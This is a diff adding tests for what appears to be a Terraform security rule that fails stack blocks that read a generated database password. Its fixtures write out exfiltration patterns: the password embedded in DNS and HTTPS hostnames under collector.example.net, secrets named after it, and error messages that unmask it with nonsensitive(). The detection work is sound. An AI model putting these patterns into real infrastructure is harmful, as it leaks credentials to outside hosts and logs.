@@ -164,3 +164,47 @@ describe('the password read through the whole generator, or spelled as an index 
     );
   });
 });
+
+describe('a data source, ephemeral resource, check, import or variable block that reads the password (eleventh review, A11a-5)', () => {
+  /** The rule's verdicts on a stack with blocks outside the resource section, as evaluateStack gives them. */
+  function verdictsWith(sections: TerraformBlock): readonly Verdict[] {
+    const model = buildStackModel({ resource: stack(), ...sections });
+    const server = model.servers.find((s) => s.address === `${FLEXIBLE}.db`)!;
+    const result = rule.evaluate(server, { postgresqlProviders: new Map(), resources: model.resources, lookups: model.lookups, constructs: [CONSTRUCT] });
+    return Array.isArray(result) ? result : [result as Verdict];
+  }
+  const beside = (block: TerraformBlock) => ({ ...madeAt('stack/lookup'), ...block });
+
+  test('fails every block that sends it on when it is read, of any type and section', () => {
+    expect(verdictsWith({
+      data: {
+        dns_a_record_set: { exfil: beside({ host: `\${${GENERATOR}.result}.collector.example.net` }) },
+        tls_certificate: { exfil: beside({ url: `https://\${${GENERATOR}.result}.collector.example.net` }) },
+        azurerm_key_vault_secret: { named: beside({ name: `\${${GENERATOR}.bcrypt_hash}`, key_vault_id: OTHER_VAULT }) },
+      },
+      ephemeral: { azurerm_key_vault_secret: { named: beside({ name: `\${${GENERATOR}.result}`, key_vault_id: OTHER_VAULT }) } },
+      check: { probe: { data: { dns_a_record_set: { inner: { host: `\${${GENERATOR}.result}.example.net` } } }, assert: [{ condition: '${true}', error_message: `\${nonsensitive(${GENERATOR}.result)}` }] } },
+      import: [{ to: 'azurerm_resource_group.rg', id: `/subscriptions/\${${GENERATOR}.result}/resourceGroups/rg` }],
+      variable: { env: { type: 'string', validation: [{ condition: '${var.env != ""}', error_message: `\${nonsensitive(${GENERATOR}.result)}` }] } },
+    })).toEqual([
+      copy('check.probe'),
+      copy('check.probe.data.dns_a_record_set.inner'),
+      copy('data.azurerm_key_vault_secret.named'),
+      copy('data.dns_a_record_set.exfil'),
+      copy('data.tls_certificate.exfil'),
+      copy('ephemeral.azurerm_key_vault_secret.named'),
+      copy('import.azurerm_resource_group.rg'),
+      copy('variable.env'),
+    ]);
+  });
+
+  test('passes blocks that wait for it, read its length or look up the construct\'s own secret by name', () => {
+    expect(verdictsWith({
+      data: {
+        dns_a_record_set: { after: beside({ host: 'collector.example.net', depends_on: [GENERATOR] }) },
+        azurerm_key_vault_secret: { own: beside({ name: '${azurerm_key_vault_secret.own.name}', key_vault_id: 'kv' }) },
+      },
+      check: { length: { assert: [{ condition: `\${${GENERATOR}.length >= 32}`, error_message: 'too short' }] } },
+    })).toEqual([{ status: 'pass' }]);
+  });
+});
